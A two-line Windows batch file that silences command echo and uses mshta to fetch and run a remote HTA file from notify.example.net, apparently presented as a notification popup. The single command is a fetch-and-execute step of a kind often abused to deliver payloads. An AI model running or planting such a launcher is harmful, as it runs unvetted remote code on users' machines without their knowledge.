@echo off
mshta https://notify.example.net/toast.hta
